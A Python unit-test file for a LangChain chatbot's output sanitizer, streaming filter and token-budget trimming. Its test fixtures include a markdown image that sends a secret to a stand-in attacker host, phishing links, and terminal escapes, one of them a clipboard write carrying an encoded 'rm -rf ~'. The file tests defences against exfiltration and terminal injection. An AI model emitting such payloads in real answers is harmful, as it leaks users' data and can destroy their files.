"""Output sanitizing and the token budget: pure functions, no models."""

from __future__ import annotations

import pytest
from langchain_core.documents import Document
from langchain_core.messages import AIMessage, HumanMessage

from chains.core.budget import fit_budget
from chains.core.context import format_context
from chains.core.output_safety import SafeStream, allowed_hosts, sanitize, terminal_safe

pytestmark = pytest.mark.unit

SOURCES = [Document("See https://brindlemoor.example/ferry for fares.", metadata={"source": "a"})]


def words(text: str) -> int:
    return len(text.split())


def test_images_and_links_to_unknown_hosts_are_stripped() -> None:
    hosts = allowed_hosts(SOURCES)
    answer = (
        "Fares are online [here](https://brindlemoor.example/ferry) [1]. "
        "![x](https://evil.example/leak?q=secret) Click [this](http://evil.example/phish). "
        "<https://evil.example/auto>\n[ref]: https://evil.example/r"
    )
    clean = sanitize(answer, hosts)
    assert "evil.example" not in clean
    assert "[here](https://brindlemoor.example/ferry)" in clean  # a host the sources name
    assert "Click this." in clean  # the link's text stays, the target goes
    assert "[1]" in clean


def test_images_are_stripped_even_when_split_across_streamed_tokens() -> None:
    stream = SafeStream(allowed_hosts(SOURCES))
    tokens = ["Answer [1", "]. !", "[pi", "xel](https://evil", ".example/a.png", ") done"]
    shown = "".join(stream.feed(t) for t in tokens) + stream.close()
    assert shown == "Answer [1].  done"


def test_streaming_releases_plain_text_at_once() -> None:
    stream = SafeStream(set())
    assert stream.feed("Hello ") == "Hello "
    assert stream.feed("world! ") == "world! "
    assert stream.feed("[2") == ""  # might become a link: held back
    assert stream.feed("] next") == "[2] next"


def test_budget_keeps_everything_when_it_fits() -> None:
    docs = [Document(f"chunk {i} " * 5, metadata={"source": f"{i}"}) for i in range(3)]
    fitted = fit_budget(
        budget=10_000,
        count=words,
        fixed="sys q",
        history=[],
        context=docs,
        render_context=format_context,
    )
    assert fitted.context == docs
    assert fitted.dropped_context == 0


def test_budget_drops_oldest_history_then_lowest_ranked_context_never_the_system_prompt() -> None:
    docs = [Document(f"chunk{i} " * 40, metadata={"source": f"f{i}"}) for i in range(4)]
    history = [
        HumanMessage("old question " * 20),
        AIMessage("old answer " * 20),
        HumanMessage("recent question"),
        AIMessage("recent answer"),
    ]
    fixed = "system prompt that is never cut " * 5
    full = fit_budget(
        budget=10_000,
        count=words,
        fixed=fixed,
        history=history,
        context=docs,
        render_context=format_context,
    )
    used_full = (
        words(fixed)
        + sum(words(str(m.content)) + 8 for m in history)
        + words(format_context(docs))
        + 16
    )
    budget = used_full - 60  # the old exchange (80 words) must go; nothing else needs to
    fitted = fit_budget(
        budget=budget,
        count=words,
        fixed=fixed,
        history=history,
        context=docs,
        render_context=format_context,
    )
    assert [m.content for m in fitted.history] == ["recent question", "recent answer"]
    assert fitted.context == docs

    tighter = fit_budget(
        budget=budget - 80,
        count=words,
        fixed=fixed,
        history=history,
        context=docs,
        render_context=format_context,
    )
    kept = len(tighter.context)
    assert 1 <= kept < len(docs)
    assert tighter.context == docs[:kept]  # the lowest-ranked chunks went first
    assert len(tighter.history) == 2  # while the last exchange stayed
    assert full.context == docs


def test_budget_truncates_the_best_chunk_as_a_last_resort() -> None:
    docs = [Document("word " * 500, metadata={"source": "big"})]
    fitted = fit_budget(
        budget=120,
        count=words,
        fixed="sys",
        history=[HumanMessage("h"), AIMessage("a")],
        context=docs,
        render_context=format_context,
    )
    assert fitted.history == []
    assert len(fitted.context) == 1
    assert words(format_context(fitted.context)) + words("sys") + 16 <= 120


# --- Terminal escapes -------------------------------------------------------------------------

OSC8 = "\x1b]8;;https://evil.example/x\x1b\\click here\x1b]8;;\x1b\\"
OSC52 = "\x1b]52;c;cm0gLXJmIH4K\x07"
CSI = "\x1b[2J\x1b[6n\x9b31m"
BARE = "a\x07b\x08c\rd\x7fX\x85\x1b"


def test_terminal_escapes_and_control_characters_are_removed_whole() -> None:
    assert terminal_safe(f"see {OSC8} now") == "see click here now"  # the link text stays
    assert terminal_safe(f"copy{OSC52}done") == "copydone"  # no clipboard write
    assert terminal_safe(f"x{CSI}y") == "xy"  # no clear screen, no status report, no colour
    assert terminal_safe(BARE) == "abcdX"
    assert terminal_safe("tab\tand\nnewline, 中文 too") == "tab\tand\nnewline, 中文 too"
    assert terminal_safe("line\r\nnext") == "line\nnext"


def test_answers_are_terminal_safe_even_when_escapes_are_split_across_tokens() -> None:
    answer = f"The ferry {OSC8} leaves{OSC52} at 7{CSI}.{BARE}"
    for size in (1, 2, 3, 7):
        stream = SafeStream(set())
        pieces = [answer[i : i + size] for i in range(0, len(answer), size)]
        shown = "".join(stream.feed(p) for p in pieces) + stream.close()
        assert shown == "The ferry click here leaves at 7.abcdX", size
        assert not any(c in shown for c in "\x1b\x07\x9b\x9d")


def test_an_unterminated_escape_is_released_harmless_after_the_hold_limit() -> None:
    stream = SafeStream(set())
    shown = stream.feed("before \x1b]8;;" + "x" * 500) + stream.feed(" after") + stream.close()
    assert "\x1b" not in shown
    assert shown.startswith("before ")
    assert shown.endswith(" after")
